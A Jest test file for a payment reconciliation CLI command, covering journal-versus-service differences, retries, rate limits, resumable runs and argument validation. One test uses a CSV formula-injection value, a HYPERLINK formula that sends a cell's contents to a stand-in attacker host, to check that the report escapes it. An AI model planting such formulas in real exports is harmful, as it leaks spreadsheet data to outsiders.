import { randomUUID } from 'node:crypto';
import { appendFileSync, existsSync, readFileSync } from 'node:fs';
import { RateLimiter } from '../../src/cli/reconcile/rate-limiter';
import type { OutcomeDetails } from '../../src/datasources/journal/journal';
import { API_KEY, SECRET_KEY } from '../support/gateway';
import { until } from '../support/latch';
import {
  describeBooks,
  describeSqliteBooks,
  reportFile,
  START,
  TIME,
  type CsvRow,
} from './support/reconciling';
import { run, start } from './support/run';

const REJECTED: OutcomeDetails = { outcome: 'rejected', settledAt: START };
const NOT_SENT: OutcomeDetails = { outcome: 'not_sent', settledAt: START };
const UNKNOWN: OutcomeDetails = { outcome: 'unknown', nextRecheckAt: START };
const HOUR_MS = 60 * 60 * 1000;

/** Returns result and detail by idempotency key. */
const resultsOf = (rows: readonly CsvRow[]): Record<string, string> =>
  Object.fromEntries(
    rows.map(({ idempotencyKey = '', result, detail }) => [idempotencyKey, `${result} ${detail}`.trim()]),
  );

describeBooks('The command `reconcile`', (books) => {
  test('reports nothing and exits with 0 if every attempt agrees with the service', async () => {
    await books().paid();
    await books().paid({ status: 'pending', changes: ['PENDING', 'COMPLETED'] });
    await books().paid({ status: 'completed' });
    const processing = { changes: ['PROCESSING'], shows: { status: 'processing' } };
    await books().paid({ kind: 'payout', method: 'imps', ...processing });
    const mispaid = { status: 'mispaid', amount: { currency: 'EUR', value: '10', received: '9.00' } };
    await books().paid({ changes: ['PROCESSING', 'MISPAID'], shows: mispaid });
    await books().attempt({}, REJECTED);
    await books().attempt({ kind: 'payout' }, NOT_SENT);
    const { code, rows, err, out, file } = await books().reconcile();
    expect({ code, err }).toEqual({ code: 0, err: '' });
    expect(rows()).toEqual([]);
    expect(out).toMatch(/^ +7 {2}agrees$/m);
    expect(existsSync(`${file}.progress`)).toBe(false);
    // One lookup for each attempt.
    expect(books().service.requests).toHaveLength(7);
  });

  test('reports every kind of difference between journal and service, and exits with 1', async () => {
    const { journal } = books();
    const amount = { currency: 'EUR', value: '10.00' };
    await books().paid({ key: 'agrees' });
    await books().paid({ key: 'missing', shows: null });
    await books().paid({ key: 'value', shows: { amount: { ...amount, value: '10.01' } } });
    await books().paid({ key: 'currency', shows: { amount: { ...amount, currency: 'USD' } } });
    await books().paid({ key: 'final', changes: ['PROCESSING', 'FAILED'] });
    await books().paid({ key: 'final at create', status: 'failed' });
    await books().paid({ key: 'back', status: 'processing', shows: { status: 'pending' } });
    await books().paid({ key: 'change', changes: ['PENDING', 'PROCESSING'] });
    await books().paid({ key: 'both', status: 'failed', shows: { amount: { ...amount, value: '9.00' } } });
    const mispaid = { status: 'mispaid', amount: { ...amount, received: '8.00' } };
    await books().paid({ key: 'received', changes: ['PROCESSING', 'MISPAID'], shows: mispaid });
    for (const [key, outcome] of Object.entries({ rejected: REJECTED, 'not sent': NOT_SENT })) {
      const attempt = await books().attempt({ key }, outcome);
      books().addTransaction(attempt, { order: attempt.externalId });
    }
    const payout = await books().attempt({ key: 'payout not sent', kind: 'payout' }, NOT_SENT);
    const found = books().addTransaction(payout, { order: payout.externalId });
    await books().attempt({ key: 'unknown' }, UNKNOWN);
    await books().attempt({ key: 'in progress' });

    const { code, rows, out } = await books().reconcile();
    expect(code).toBe(1);
    expect(resultsOf(rows())).toEqual({
      missing: 'missing',
      value: 'amount_differs value',
      currency: 'amount_differs currency',
      received: 'amount_differs received',
      final: 'status_differs final_status_changed',
      'final at create': 'status_differs final_status_changed',
      back: 'status_differs status_went_back',
      change: 'status_differs change_not_recorded',
      both: 'amount_differs value status_differs',
      rejected: 'unexpected recorded_as_rejected',
      'not sent': 'unexpected recorded_as_not_sent',
      'payout not sent': 'unexpected recorded_as_not_sent',
      unknown: 'unknown outcome_unknown',
      'in progress': 'unknown outcome_in_progress',
    });
    expect(out).toMatch(/^ +3 {2}unexpected$/m);
    expect(rows().find(({ idempotencyKey }) => idempotencyKey === 'payout not sent')).toMatchObject({
      attemptId: payout.id,
      operation: 'createPayout',
      outcome: 'not_sent',
      transactionId: '',
      serviceTransactionId: found,
      serviceStatus: 'COMPLETED',
      startedAt: new Date(payout.startedAt).toISOString(),
    });
    // Nothing is written to the journal.
    expect(await journal.findById(payout.service, payout.id)).toMatchObject({ outcome: 'not_sent' });
  });

  test('finds no difference for a rejected or unsent attempt if the transaction with its external id belongs to another attempt or is older', async () => {
    const externalId = randomUUID();
    const first = await books().attempt({ key: 'rejected first', externalId }, REJECTED);
    const { transactionId } = await books().paid({ key: 'then paid', externalId });
    books().service.update(transactionId, { order: externalId });
    const reused = await books().attempt({ key: 'reused external id' }, NOT_SENT);
    const earlier = new Date(reused.startedAt - 2 * HOUR_MS).toISOString();
    books().addTransaction(reused, { order: reused.externalId, create_date: earlier });
    const { code, rows } = await books().reconcile(['--all']);
    expect({ code, first: first.externalId }).toEqual({ code: 0, first: externalId });
    expect(resultsOf(rows())).toEqual({
      'rejected first': 'agrees transaction_of_other_attempt',
      'then paid': 'agrees',
      'reused external id': 'agrees older_transaction',
    });
  });

  test('repeats failed lookups, and reports an attempt as unknown if its lookup keeps failing', async () => {
    const broken = await books().paid({ key: 'broken' });
    const shaky = await books().paid({ key: 'shaky' });
    const proxied = await books().paid({ key: 'proxied' });
    const failures: string[] = [];
    const reserveWaitMs = jest.spyOn(RateLimiter.prototype, 'reserveWaitMs');
    books().service.respond(({ parameters }) => {
      const id = parameters.get('transaction_id') ?? '';
      if (id === broken.transactionId) return { status: 400 };
      if (id === proxied.transactionId) return { status: 404, body: '<html>' };
      if (id !== shaky.transactionId || failures.push(id) > 4) return undefined;
      return { status: 503, headers: { 'retry-after': '0' } };
    });
    const { code, rows } = await books().reconcile();
    expect(code).toBe(1);
    expect(resultsOf(rows())).toEqual({
      broken: 'unknown lookup_refused',
      proxied: 'unknown not_found_by_proxy',
    });
    // The rate limiter counts every request, including retries.
    expect(reserveWaitMs).toHaveBeenCalledTimes(books().service.requests.length);
    reserveWaitMs.mockRestore();
  });
});

describeSqliteBooks('The command `reconcile`', (books) => {
  test('compares only the attempts of the given time range, channel and service', async () => {
    await books().paid({ key: 'before', startedAt: START - 1, shows: null });
    await books().paid({ key: 'first', startedAt: START, shows: null });
    await books().paid({ key: 'other channel', channel: randomUUID(), shows: null });
    await books().attempt({ key: 'other service', service: 'http://127.0.0.1:1/' }, UNKNOWN);
    await books().paid({ key: 'end', startedAt: START + 24 * HOUR_MS, shows: null });
    const { rows } = await books().reconcile();
    expect(resultsOf(rows())).toEqual({ first: 'missing' });
    const withOffset = ['--from', '2026-01-11T05:30:00+05:30', '--to', '2026-01-11T00:00:00.001Z'];
    expect(resultsOf((await books().reconcile(withOffset)).rows())).toEqual({ end: 'missing' });
  });

  test('with FOLLOW_DAYS=0 reports no difference for a status that the recorded changes lack, unless the last recorded status is final', async () => {
    await books().paid({ key: 'later status', changes: ['PENDING', 'PROCESSING'] });
    await books().paid({ key: 'final status', changes: ['FAILED'] });
    const { rows } = await books().reconcile([], { env: { FOLLOW_DAYS: '0' } });
    expect(resultsOf(rows())).toEqual({ 'final status': 'status_differs final_status_changed' });
  });

  test('writes every attempt with --all, and escapes values that a spreadsheet would read as formulas', async () => {
    const externalId = '=HYPERLINK("http://evil.example/?"&A1,"x")\r\n';
    await books().paid({ key: '+1', client: '@shop', externalId });
    const { rows } = await books().reconcile(['--all']);
    expect(rows()).toMatchObject([
      { result: 'agrees', idempotencyKey: "'+1", client: "'@shop", externalId: `'${externalId}` },
    ]);
  });

  test('sends at most --rate lookups per second', async () => {
    for (let count = 0; count < 24; count += 1) await books().paid();
    const startedAt = performance.now();
    const { code } = await books().reconcile(['--rate', '20']);
    expect(code).toBe(0);
    expect(books().service.requests).toHaveLength(24);
    // The rate limiter catches up with delays of up to 100 ms.
    expect(performance.now() - startedAt).toBeGreaterThanOrEqual((23 / 20 - 0.1) * 1000);
  });

  test('prints the summary as JSON with --json, and never prints credentials', async () => {
    await books().paid();
    await books().paid({ shows: null });
    books().service.respond(({ headers }) => ({ status: 400, json: { message: JSON.stringify(headers) } }));
    const { out, err, file } = await books().reconcile(['--json']);
    const counts = { unknown: 2, agrees: 0 };
    expect(JSON.parse(out)).toMatchObject({ checked: 2, counts, lookups: 4, file });
    for (const text of [out, err, readFileSync(file, 'utf8')])
      for (const secret of [API_KEY, SECRET_KEY]) expect(text).not.toContain(secret);
  });

  test('exits with 1 when the service starts to reject lookups; with --resume, it compares the remaining attempts', async () => {
    const ids: string[] = [];
    for (let count = 0; count < 60; count += 1)
      ids.push((await books().paid({ key: `${count} ${books().channel}` })).transactionId);
    const { service } = books();
    service.respond(({ parameters }) =>
      ids.indexOf(parameters.get('transaction_id')!) >= 30 ? { status: 401 } : undefined,
    );
    const stopped = await books().reconcile(['--all', '--rate', '500']);
    expect(stopped).toMatchObject({ code: 1, out: '' });
    expect(stopped.err).toContain('--resume');
    expect(new Set(stopped.rows().map(({ result }) => result))).toEqual(new Set(['agrees']));
    service.respond(() => undefined);
    const { file } = stopped;
    expect(await books().reconcile(['--all'], { file })).toMatchObject({ code: 2 });
    expect(await books().reconcile(['--resume'], { file })).toMatchObject({ code: 2 });
    const resumed = await books().reconcile(['--all', '--resume'], { file });
    expect(resumed.code).toBe(0);
    const keys = resumed.rows().map(({ idempotencyKey }) => idempotencyKey!.split(' ')[0]);
    expect(keys).toEqual(Array.from({ length: 60 }, (_, index) => String(index)));
    expect(resumed.out).toMatch(/^ +60 {2}agrees$/m);
    // A complete run cannot be resumed.
    expect(await books().reconcile(['--all', '--resume'], { file })).toMatchObject({ code: 2 });
  });

  test.each([
    ['SIGKILL', null],
    ['SIGINT', 130],
  ] as const)('continues with --resume after a run that %s ended', async (signal, exitCode) => {
    const keys = Array.from({ length: 80 }, (_, index) => `${index} ${signal}`);
    for (const key of keys) await books().paid({ key });
    const { service, channel, env } = books();
    const file = reportFile();
    const args = ['reconcile', ...TIME, '--channel', channel, '--all', '--out', file, '--rate', '20'];
    const { child, code: exited } = start(args, { env });
    const progress = `${file}.progress`;
    const saved = (): number =>
      existsSync(progress)
        ? (JSON.parse(readFileSync(progress, 'utf8')) as { counts: { agrees: number } }).counts.agrees
        : 0;
    await until(() => saved() > 0);
    child.kill(signal);
    expect(await exited).toBe(exitCode);
    const before = saved();
    expect(before).toBeLessThan(80);
    // Lines that were written after the last saved result, before a crash, are discarded.
    appendFileSync(file, 'agrees,,create');
    service.requests.length = 0;
    const { code, rows } = await books().reconcile(['--all', '--resume'], { file });
    expect(code).toBe(0);
    expect(rows().map(({ idempotencyKey }) => idempotencyKey)).toEqual(keys);
    expect(service.requests).toHaveLength(80 - before);
  });

  test.each<[string, string[], object?]>([
    ['--from', [...TIME, '--from', 'yesterday']],
    ['--from', [...TIME, '--from', '2026-02-30']],
    ['--to', ['--from', '2026-01-10', '--to', '2026-01-10']],
    ['--to', ['--from', '2026-01-10']],
    ['--channel', [...TIME, '--channel', 'mine']],
    ['--rate', [...TIME, '--rate', '1001']],
    ['--out', [...TIME, '--out', __filename]],
    ['cannot be opened', [...TIME, '--out', '/nowhere/near/report.csv']],
    ['--resume', [...TIME, '--resume', '--out', reportFile()]],
    ['SERVICE_BASE_URL', [...TIME, '--out', reportFile()], { SERVICE_BASE_URL: '' }],
    ['SERVICE_API_KEY', [...TIME, '--out', reportFile()], { SERVICE_API_KEY: '' }],
  ])('exits with 2, sends nothing and prints "%s" for the arguments %j', async (name, args, env = {}) => {
    await books().paid();
    const { code, out, err } = await run(['reconcile', ...args], { ...books().env, ...env });
    expect({ code, out }).toEqual({ code: 2, out: '' });
    expect(err).toContain(name);
    expect(books().service.requests).toEqual([]);
  });
});
